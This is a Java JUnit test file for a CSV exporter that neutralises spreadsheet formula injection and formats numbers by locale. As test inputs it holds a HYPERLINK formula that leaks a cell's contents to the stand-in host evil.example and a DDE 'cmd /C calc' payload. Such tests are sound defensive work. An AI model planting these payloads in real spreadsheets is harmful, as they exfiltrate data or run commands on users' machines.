package be.pillars.api.http;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertSame;

import java.math.BigDecimal;
import java.util.List;
import java.util.Locale;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** No cell a spreadsheet would run as a formula, and an import gets every stored value back. */
class SpreadsheetCsvTest {

    @Test
    void aFormulaIsWrittenAsTextAndTheRowPassedInStaysAsItWas() {
        String[] row = {"=HYPERLINK(\"http://evil.example/?\"&B2,\"Open\")", "An", "@SUM(A1)"};
        String csv = SpreadsheetCsv.write(new String[] {"first", "last", "other"}, List.<String[]>of(row));
        assertEquals("\uFEFFfirst;last;other\r\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&B2,\"\"Open\"\")\";An;"
                + "'@SUM(A1)\r\n", csv);
        assertEquals("=HYPERLINK(\"http://evil.example/?\"&B2,\"Open\")", row[0]);
    }

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "=", "-", "+32 11 22 33 44",
        "-cmd|' /C calc'!A0", "'=1+1", "''-x", "1-1e3", "--1"})
    void everyFormulaStartIsNeutralisedAndComesBackOnImport(String value) {
        String cell = SpreadsheetCsv.cell(value);
        if ("=+-@\t\r'".indexOf(value.charAt(0)) >= 0) {
            assertEquals("'" + value, cell);
        } else {
            assertSame(value, cell);
        }
        assertEquals(value, SpreadsheetCsv.value(cell));
    }

    @ParameterizedTest
    @ValueSource(strings = {"-12.50", "+3", "-0,5", "42", "An", "'t Hooft", "'s-Gravenwezel", "a=b", "", "'", "O'Neil"})
    void plainNumbersAndOtherTextStayAsTheyAre(String value) {
        assertSame(value, SpreadsheetCsv.cell(value));
        assertSame(value, SpreadsheetCsv.value(value));
    }

    @Test
    void aCellTypedWithAQuoteBeforeAFormulaIsReadAsTheFormulaText() {
        assertEquals("=1+1", SpreadsheetCsv.value("'=1+1"));
        assertEquals(null, SpreadsheetCsv.cell(null));
        assertEquals(null, SpreadsheetCsv.value(null));
    }

    @Test
    void numbersAreWrittenWithTheDecimalMarkOfTheReadersLanguage() {
        assertEquals("1760,83", SpreadsheetCsv.number(new BigDecimal("1760.83"), Locale.forLanguageTag("nl-BE")));
        assertEquals("-0,50", SpreadsheetCsv.number(new BigDecimal("-0.50"), Locale.forLanguageTag("nl")));
        assertEquals("1760.83", SpreadsheetCsv.number(new BigDecimal("1760.83"), Locale.ENGLISH));
        assertEquals("", SpreadsheetCsv.number(null, Locale.ENGLISH));
        // a Dutch amount stays a number, not a formula to neutralise
        assertEquals("-12,50", SpreadsheetCsv.cell(SpreadsheetCsv.number(new BigDecimal("-12.50"), Locale.forLanguageTag("nl"))));
    }
}
